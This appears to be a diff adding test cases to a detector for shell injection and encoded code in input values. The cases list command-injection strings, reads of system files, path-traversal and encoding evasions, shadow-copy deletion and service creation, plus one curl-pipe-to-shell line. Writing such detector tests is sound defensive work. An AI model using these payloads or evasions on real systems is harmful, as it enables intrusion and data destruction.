@@ -93,6 +93,51 @@ describe('shell in a value', () => {
     'cmd /c dir',
     'settings. php',
     'mtrr',
+    ';halt',
+    'find . -delete',
+    'tar x; reboot',
+    'ls; whoami',
+    '/proc/self/environ',
+    ';. ./x',
+    '&&[[ a ]]',
+    '";until a;do b;done;"',
+    ';>x',
+    ';id//',
+    ';id%00',
+    '\\x3bid',
+    '\\073id',
+    "' whoami",
+    'which curl',
+    'type %TEMP%\\x',
+    '; groups',
+    'a|id',
+    '--split-string=sh -c "x"',
+    '&& date',
+    '| stat x',
+    '";cal;"',
+    ';git clone x',
+    ';;id\\n',
+    'web;id\\n',
+    '\\nuname -a\\n',
+    'web;/usr/bin/id;',
+    'who^ami',
+    'x%ProgramFiles:~10,1%y',
+    "tr 'a' 'b' <<<.",
+    '/\\b\\i\\n/s\\h',
+    ';$u cat$u /etc/hosts',
+    ';+cat+/etc/hosts',
+    'ls+-la',
+    '<uname -a',
+    '/e*c/*asswd',
+    '....//....//etc/x',
+    '/..%c0%af..%c0%af../etc/x',
+    '%u0063at%u0020/etc/hosts',
+    'dir D:\\',
+    'net view',
+    'netsh firewall set x',
+    'vssadmin delete shadows',
+    'sc create x binpath= y',
+    'http://2852039166/x',
   ])('%j', (value) => {
     expect(rules(value).some((rule) => ['shell-injection', 'interpreter', 'code'].includes(rule))).toBe(true);
   });
@@ -214,12 +259,45 @@ describe('code in a value', () => {
     ['hex', Buffer.from(payload).toString('hex')],
     ['base64 within JSON', JSON.stringify({ a: { b: Buffer.from(payload).toString('base64') } })],
     ['base64 within a URL', `https://a.example/?x=${encodeURIComponent(Buffer.from(payload).toString('base64'))}`],
+    ['the codes of its letters', [...payload].map((letter) => letter.charCodeAt(0)).join(', ')],
+    ['a separator of another width', '；id'],
+    ['letters of another width', 'ｃａｔ /etc/hosts'],
+    ['a short blob with its padding', Buffer.from('id;ls').toString('base64')],
+    ['bytes between colons', (Buffer.from(payload).toString('hex').match(/../g) ?? []).join(':')],
+    ['a short blob that is all there is', Buffer.from(';id;ls').toString('base64')],
+    ['a short blob behind what names it', `base64:${Buffer.from(';id;ls;').toString('base64')}`],
+    ['base64 of a short blob', Buffer.from(Buffer.from('$(reboot)').toString('base64')).toString('base64')],
+    ['the letters of ASCII 85', ascii85(payload)],
     ['UTF-16 with its mark within base64', Buffer.from(`\ufeff${payload}`, 'utf16le').toString('base64')],
     ['gzip within base64', 'H4sIAAAAAAAC/0tOLFHQTy1J1i9ILC4uT7FWyEwBAJcaAicTAAAA'],
   ])('within %s', (_, value) => {
     expect(rules(value)).toContain('encoded-code');
   });
 });
+
+function ascii85(text: string): string {
+  const bytes = Buffer.from(text);
+  let letters = '';
+  for (let at = 0; at < bytes.length; at += 4) {
+    const group = bytes.subarray(at, at + 4);
+    let value = 0;
+    for (let index = 0; index < 4; index++) value = value * 256 + (group[index] ?? 0);
+    let part = '';
+    for (let index = 0; index < 5; index++) {
+      part = String.fromCharCode(33 + (value % 85)) + part;
+      value = Math.floor(value / 85);
+    }
+    letters += part.slice(0, group.length + 1);
+  }
+  return `<~${letters}~>`;
+}
+
+it.each(['../', '....//', '%2e%2e%2f', 'x;', '$u ', '99,', '<~', '\\n', '\n', '"'])(
+  'reads through 30,000 times %j',
+  (piece) => {
+    expect(findInValue(piece.repeat(30_000).slice(0, 60_000), 1, findLanguage).marks.length).toBeLessThan(4);
+  },
+);
 
 it('shows nothing of a value', () => {
   const { marks } = findInValue('cat /etc/hunter2secret; curl http://u:hunter2secret@a.example/ | sh', 2, findLanguage);
